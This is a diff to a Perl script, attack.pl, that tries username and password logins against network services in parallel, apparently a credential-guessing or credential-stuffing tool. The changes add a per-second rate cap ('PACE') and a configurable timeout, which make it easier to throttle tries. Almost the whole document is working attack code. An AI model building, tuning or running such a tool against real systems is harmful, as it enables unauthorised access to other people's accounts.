@@ -1,12 +1,17 @@
 #!/usr/bin/perl
-# attack.pl [TOGETHER]: tries to log in, TOGETHER at a time. A line of standard input is one try: PROTOCOL SOURCE HOST PORT
-# USER PASSWORD, with blanks between, the last two as base64. For each it prints "ok", "refused" or "error: ..." in the same
-# order. Names go out as they are.
+# attack.pl [TOGETHER [PACE [PATIENCE]]]: tries to log in, TOGETHER at a time. A line of standard input is one try: PROTOCOL
+# SOURCE HOST PORT USER PASSWORD, with blanks between, the last two as base64. For each it prints "ok", "refused" or
+# "error: ..." in the same order. Names go out as they are. At most PACE tries begin in a second (0: as many as can), and
+# one is given up after PATIENCE seconds without its end.
 use strict;
 use warnings;
 use IO::Socket::IP;
 use MIME::Base64;
+use Time::HiRes qw(sleep time);
 
+my $together = shift // 1;
+my $pace = shift // 0;
+my $patience = shift // 15;
 my ($source, $host, $port, $user, $password, $socket);
 
 sub plain { return encode_base64("\0$user\0$password", '') }
@@ -130,7 +135,7 @@ sub attempt {
     ($user, $password) = (decode_base64($name // ''), decode_base64($secret // ''));
     my $in = eval {
         local $SIG{ALRM} = sub { die "no answer\n" };
-        alarm 15;
+        alarm $patience;
         $socket = IO::Socket::IP->new(PeerHost => $host, PeerPort => $port, LocalHost => $source, Type => SOCK_STREAM) or die "no connection: $@\n";
         $socket->autoflush(1);
         my $answer = $protocols{$protocol}->();
@@ -147,14 +152,18 @@ sub attempt {
 }
 
 # So many at a time as the argument says, each by a process of its own.
-my $together = shift // 1;
 my @tries = <STDIN>;
 my @pipes;
+my $began = time;
 for my $first (0 .. $together - 1) {
     my $child = open(my $pipe, '-|') // die "fork: $!\n";
     if ($child == 0) {
         local $SIG{PIPE} = 'IGNORE';
-        for (my $i = $first; $i < @tries; $i += $together) { print $i, ' ', attempt($tries[$i]), "\n"; }
+        for (my $i = $first; $i < @tries; $i += $together) {
+            my $early = $pace ? $began + $i / $pace - time : 0;
+            sleep $early if $early > 0;
+            print $i, ' ', attempt($tries[$i]), "\n";
+        }
         exit 0;
     }
     push @pipes, $pipe;
